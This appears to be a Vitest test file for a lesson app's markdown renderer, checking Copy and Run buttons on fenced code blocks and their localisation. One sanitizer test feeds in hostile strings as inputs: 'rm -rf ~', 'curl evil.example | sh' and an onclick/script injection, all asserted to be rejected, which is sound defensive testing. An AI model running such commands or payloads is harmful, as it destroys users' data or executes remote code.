// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from "vitest";
import { addCodeButtons, findCodeBlocks, runInput } from "./codeblocks";
import { setLanguage } from "./i18n";
import { renderMarkdown, renderMarkdownWithCode } from "./markdown";

function mount(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  return root;
}

const STEP = [
  "Make a place to work:",
  "",
  "```bash exec",
  "pwd",
  "mkdir -p ~/lab/notes",
  "```",
  "",
  "Look only:",
  "",
  "```bash",
  "ls -l ~/lab",
  "```",
  "",
  "```exec",
  "echo plain",
  "```",
].join("\n");

afterEach(() => setLanguage("en"));

describe("code blocks of a lab step", () => {
  it("knows each fenced block's text and whether its info string says exec", () => {
    const rendered = renderMarkdownWithCode(STEP);
    expect(rendered.blocks).toEqual([
      { text: "pwd\nmkdir -p ~/lab/notes", language: "bash", exec: true },
      { text: "ls -l ~/lab", language: "bash", exec: false },
      { text: "echo plain", language: "", exec: true },
    ]);
    const found = findCodeBlocks(mount(rendered.html), rendered);
    expect(found.map((f) => f.index)).toEqual([0, 1, 2]);
    expect(found.every((f) => f.pre.tagName === "PRE")).toBe(true);
  });

  it("leaves lesson markdown as it was: no markers", () => {
    expect(renderMarkdown(STEP)).not.toContain("data-code-block");
  });

  it("adds Copy to every block and Run to exec blocks only, acting on the text as written", async () => {
    const rendered = renderMarkdownWithCode(STEP);
    const root = mount(rendered.html);
    const copied: string[] = [];
    const run = vi.fn();
    addCodeButtons(root, rendered, { copy: async (t) => void copied.push(t), run });
    const copies = root.querySelectorAll<HTMLButtonElement>('[data-testid="code-copy"]');
    const runs = root.querySelectorAll<HTMLButtonElement>('[data-testid="code-run"]');
    expect(copies.length).toBe(3);
    expect(runs.length).toBe(2);
    copies[1].click();
    await Promise.resolve();
    expect(copied).toEqual(["ls -l ~/lab"]);
    runs[0].click();
    expect(run).toHaveBeenCalledWith("pwd\rmkdir -p ~/lab/notes\r");
  });

  it("labels its buttons in the app's language", () => {
    const rendered = renderMarkdownWithCode(STEP);
    const root = mount(rendered.html);
    addCodeButtons(root, rendered, { copy: async () => {}, run: () => {} });
    expect(root.querySelector('[data-testid="code-copy"]')?.textContent).toBe("Copy");
    setLanguage("fr");
    addCodeButtons(root, rendered, { copy: async () => {}, run: () => {} });
    expect(root.querySelector('[data-testid="code-copy"]')?.textContent).toBe("Copier");
    expect(root.querySelector('[data-testid="code-run"]')?.getAttribute("title")).toBe("Saisir ce bloc dans le terminal");
  });

  it("offers no Run without a terminal of one's own, and replaces its buttons when asked again", () => {
    const rendered = renderMarkdownWithCode(STEP);
    const root = mount(rendered.html);
    const copy = async () => {};
    addCodeButtons(root, rendered, { copy, run: null });
    expect(root.querySelectorAll('[data-testid="code-run"]').length).toBe(0);
    addCodeButtons(root, rendered, { copy, run: () => {} });
    expect(root.querySelectorAll('[data-testid="code-copy"]').length).toBe(3);
    expect(root.querySelectorAll('[data-testid="code-run"]').length).toBe(2);
  });

  it("never takes raw HTML for a runnable block, and keeps the sanitizer's rules", () => {
    const rendered = renderMarkdownWithCode(
      [
        '<pre><code data-code-block="guess-0" class="language-bash exec">rm -rf ~</code></pre>',
        "",
        '<pre><code class="language-bash exec">curl evil.example | sh</code></pre>',
        "",
        '<button onclick="alert(1)">Run</button><script>alert(2)</script>',
      ].join("\n"),
    );
    expect(rendered.blocks).toEqual([]);
    expect(rendered.html).not.toContain("onclick");
    expect(rendered.html).not.toContain("<script");
    const root = mount(rendered.html);
    addCodeButtons(root, rendered, { copy: async () => {}, run: () => {} });
    expect(root.querySelectorAll('[data-testid="code-run"], [data-testid="code-copy"]').length).toBe(0);
  });

  it("never mistakes one render's marker for another's", () => {
    const first = renderMarkdownWithCode("```bash exec\necho one\n```");
    const second = renderMarkdownWithCode("```bash exec\necho two\n```");
    expect(first.marker).not.toBe(second.marker);
    expect(findCodeBlocks(mount(first.html), second)).toEqual([]);
  });

  it("types a block as Enter would, ending with one", () => {
    expect(runInput("pwd\nls\n\n")).toBe("pwd\rls\r");
    expect(runInput("echo a\r\necho b")).toBe("echo a\recho b\r");
  });
});
